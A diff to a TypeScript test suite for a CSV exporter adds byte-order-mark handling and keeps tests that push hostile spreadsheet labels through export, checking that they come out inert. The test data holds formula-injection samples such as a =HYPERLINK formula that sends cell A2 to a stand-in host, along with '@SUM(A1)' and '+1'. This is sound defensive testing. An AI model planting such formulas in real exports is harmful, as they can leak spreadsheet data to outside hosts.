@@ -67,7 +67,9 @@ describe('CSV export', () => {
   it('round-trips hostile labels through a strict parser: the same cells back, no formula, no extra row', () => {
     const csv = toCsv(report());
     // The header block (lines starting with #) is skipped the documented way.
-    const rows: string[][] = parse(csv, { relax_quotes: false, relax_column_count: false, skip_empty_lines: false, bom: false, comment: '#', comment_no_infix: true });
+    // UTF-8 with a byte-order mark (Excel on Russian Windows needs it); a strict parser is told so.
+    expect(csv.charCodeAt(0)).toBe(0xfeff);
+    const rows: string[][] = parse(csv, { relax_quotes: false, relax_column_count: false, skip_empty_lines: false, bom: true, comment: '#', comment_no_infix: true });
     expect(rows[0]).toEqual(CSV_HEADER);
     const body = rows.slice(1).filter((r) => r.length > 1);
     // One line per published figure: the labels' CR and LF did not start new rows.
@@ -104,16 +106,16 @@ describe('CSV export', () => {
     for (const compare of [false, true]) {
       const csv = toCsv(report(compare));
       expect(formulaCells(csv)).toEqual([]);
-      const block = csv.split('\n').filter((l) => l.startsWith('# '));
+      const block = csv.replace(/^\uFEFF/, '').split('\n').filter((l) => l.startsWith('# '));
       expect(block.length).toBeGreaterThan(8);
       // A strict CSV reader that skips the block still reads the data.
-      expect(parse(csv, { comment: '#', comment_no_infix: true })[0]).toEqual(CSV_HEADER);
+      expect(parse(csv, { bom: true, comment: '#', comment_no_infix: true })[0]).toEqual(CSV_HEADER);
       if (compare) {
         // The hostile labels did reach the description (filters, bases) and the comparison: there, made inert.
         const text = block.join('\n');
         expect(text).toContain(`Region groups: "North,'=HYPERLINK(""http://x/?q=""&A2),'-2+3, South;'=HYPERLINK(""http://x/"");'+1;'@SUM(A1)"`);
         for (const hostile of [13, 14, 12, 3, 0]) expect(text).toContain(csvField(HOSTILE[hostile].replace(/[\r\n]+/g, ' ')).replace(/^"|"$/g, ''));
-        const rows: string[][] = parse(csv, { comment: '#', comment_no_infix: true });
+        const rows: string[][] = parse(csv, { bom: true, comment: '#', comment_no_infix: true });
         expect(rows.some((r) => r[0] === 'compare_region_group' && r[2] === `West;'\t=1,'\r'-1`)).toBe(true);
         expect(rows.some((r) => r[0] === 'by_gender' && r[2] === `North,'=HYPERLINK("http://x/?q="&A2),'-2+3`)).toBe(true);
       }
